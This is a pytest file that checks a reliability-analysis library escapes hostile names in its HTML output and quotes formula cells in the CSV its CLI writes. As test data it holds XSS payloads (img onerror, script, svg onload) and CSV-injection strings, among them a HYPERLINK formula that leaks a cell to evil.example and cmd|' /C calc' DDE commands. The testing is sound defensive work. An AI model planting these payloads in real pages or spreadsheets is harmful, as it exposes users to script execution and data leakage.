"""No injection: hostile names in HTML and formula cells in CSV (second hostile corpus, kind 2).

Each result is built with a name (file name, log name, cause, node, fleet label)
that is an HTML element with an event handler; its ``_repr_html_`` is parsed with
``html.parser`` and must hold no element outside the plain set results use and no
``on*`` attribute. CSV written by the CLI is read back with the ``csv`` module and
every text cell that a spreadsheet would run as a formula must start with a quote.
"""

import csv
import io
from html.parser import HTMLParser

import pandas as pd
import pytest
from click.testing import CliRunner

import relmodel
from relmodel.cli import cli
from relmodel.base.escape import csv_cell, csv_frame, html_text

EVIL = "<img src=x onerror='alert(1)'>"
EVIL2 = '"><script>alert(2)</script><svg onload=alert(3)>'

#: Elements the results' HTML is made of; anything else came from data.
PLAIN = {"div", "p", "b", "i", "br", "table", "thead", "tbody", "tr", "th", "td", "code", "span",
         "h3", "em", "strong", "small", "a", "ul", "li"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.handlers = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.handlers += [(tag, k) for k, _ in attrs if k.lower().startswith("on")]

    handle_startendtag = handle_starttag


def live(markup):
    """(elements outside PLAIN, on* attributes) found by parsing ``markup``."""
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return sorted(set(parser.tags) - PLAIN), parser.handlers


def assert_inert(markup, *needles):
    assert live(markup) == ([], []), markup
    for needle in needles:  # the name is shown, as text
        assert html_text(needle) in markup


def test_the_parser_sees_a_live_element():
    """The check is not blind: raw hostile text is found."""
    assert live(f"<p>{EVIL}</p>") == (["img"], [("img", "onerror")])
    assert live(f"<p>{EVIL2}</p>")[0] == ["script", "svg"]


@pytest.fixture(scope="module")
def hostile_log(tmp_path_factory):
    folder = tmp_path_factory.mktemp("evil")
    path = folder / f"{EVIL}.csv"
    rows = [[f"2024-01-0{d}T00:00:00", f"node{d}", EVIL2 if d % 2 else EVIL] for d in range(1, 8)]
    with open(path, "w", newline="") as fh:
        csv.writer(fh).writerows([["start", "node", "cause"]] + rows)
    return path


@pytest.fixture(scope="module")
def log(hostile_log):
    return relmodel.read_log(hostile_log, start="start", node="node", cause="cause", n_nodes=8,
                             gpus_per_node=8)


def _counts():
    table = pd.DataFrame({"component": [EVIL, EVIL2, "GPU"], "count": [3, 2, 5]})
    return relmodel.count_table(table, n_gpus=4096, gpus_per_node=8, duration="30d", name=EVIL, source=EVIL2)


def _steps(tmp_path):
    path = tmp_path / f"{EVIL}.csv"
    lines = [f"{s},{r},{1.0 + 0.01 * r}" for s in range(4) for r in range(4)]
    path.write_text("step,rank,seconds\n" + "\n".join(lines) + "\n")
    return relmodel.read_steps(path, step="step", rank="rank", duration="seconds")


CASES = {
    "InterruptionLog": lambda log, tmp: log,
    "InterruptionLog name": lambda log, tmp: relmodel.read_log(log.events.assign(start=log.events["start_h"]),
                                                               start="start", time_unit="h", name=EVIL2),
    "CountTable": lambda log, tmp: _counts(),
    "Source": None,  # built from the hostile file name below
    "StepLog": lambda log, tmp: _steps(tmp),
    "RateComparison": lambda log, tmp: relmodel.stats.compare_rates(log, _counts(), per="gpu"),
    "ComponentComparison": lambda log, tmp: relmodel.stats.compare_rates(log, _counts(), per="gpu", by_component=True),
    "FleetSummary": lambda log, tmp: relmodel.stats.fleet_summary(_counts(), per="gpu"),
    "RateChanges": lambda log, tmp: relmodel.stats.rate_changes(log),
    "Cluster": lambda log, tmp: relmodel.Cluster(4096, name=EVIL, assumptions=EVIL2),
}


@pytest.mark.parametrize("kind", list(CASES))
def test_every_result_escapes_hostile_names(kind, log, hostile_log, tmp_path):
    if kind == "Source":
        result = relmodel.load_source(str(hostile_log), start="start", cause="cause", node="node")
    else:
        result = CASES[kind](log, tmp_path)
    markup = result._repr_html_()
    assert_inert(markup)
    assert "&lt;img" in markup or "&lt;script" in markup or "&lt;svg" in markup, markup  # shown as text


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"])
def test_formula_cells_are_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-2.5", "+3", "-1e3", ".5", "gpu", "a=b", "", 7, -2.5, None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csv_cell(value) == value


def _formula(cell):
    """A cell a spreadsheet would evaluate: a formula start and not a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("command", [["rates", "--per", "node"], ["rates", "--per", "job"]])
def test_cli_csv_has_no_live_formula(tmp_path, command):
    causes = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
    path = tmp_path / "log.csv"
    rows = [[f"2024-01-{d + 1:02d}T00:00:00", f"n{d}", causes[d % len(causes)]] for d in range(10)]
    with open(path, "w", newline="") as fh:
        csv.writer(fh).writerows([["start", "node", "cause"]] + rows)
    res = CliRunner().invoke(cli, [*command[:1], str(path), "--start", "start", "--node", "node", "--cause",
                                   "cause", *command[1:], "--format", "csv"])
    assert res.exit_code == 0, res.output
    cells = [c for row in csv.reader(io.StringIO(res.output)) for c in row]
    assert cells, res.output
    assert not [c for c in cells if _formula(c)], res.output
    assert any(c == "'" + causes[0] for c in cells), res.output  # the cause is kept, quoted


def test_csv_frame_keeps_number_columns():
    df = pd.DataFrame({"cause": ["=1+1", "gpu"], "count": [-3, 4], "=x": [1.5, -2.0]})
    out = csv_frame(df)
    assert out["cause"].tolist() == ["'=1+1", "gpu"]
    assert out["count"].tolist() == [-3, 4] and out.dtypes["count"] == df.dtypes["count"]
    assert list(out.columns) == ["cause", "count", "'=x"]
    assert df["cause"].tolist() == ["=1+1", "gpu"]  # the caller's frame is untouched


class _Attributes(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def test_report_with_a_hostile_file_name_has_no_live_element(tmp_path):
    """The rendered page is parsed (nbconvert rewrites tags, so a text search would miss one)."""
    bad = "<img src=x onerror=alert(1)>"
    path = tmp_path / f"{bad}.csv"
    rows = [[s, r, 1000 + (40 if r == 3 else 0) + s % 3, f"n{r // 2}"] for s in range(60) for r in range(8)]
    with open(path, "w", newline="") as fh:
        csv.writer(fh).writerows([["step", "rank", "duration_ms", "node"]] + rows)
    out = tmp_path / "r"
    res = CliRunner().invoke(cli, ["report", "-q", "-n", "07", "-p", f"steps={path}", "-p", "n_boot=0",
                                   "--out", str(out)])
    assert res.exit_code == 0, res.output
    for page in ["07_stragglers.html", "index.html"]:
        parser = _Attributes()
        parser.feed((out / page).read_text(encoding="utf-8"))
        handlers = [(t, k) for t, a in parser.found for k in a if k.lower().startswith("on")]
        planted = [(t, a) for t, a in parser.found if t == "img" and a.get("src") == "x"]
        assert handlers == [] and planted == [], (page, handlers, planted)
    assert "&lt;img src=x onerror=alert(1)&gt;" in (out / "07_stragglers.html").read_text(encoding="utf-8")


def test_html_is_escaped_only_through_the_one_helper():
    """Every page and ``_repr_html_`` escapes through relmodel.base.escape.html_text: no module calls html.escape."""
    import pathlib
    root = pathlib.Path(relmodel.__file__).parent
    callers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if p.name != "escape.py" and "html.escape(" in p.read_text(encoding="utf-8"))
    assert callers == [], callers
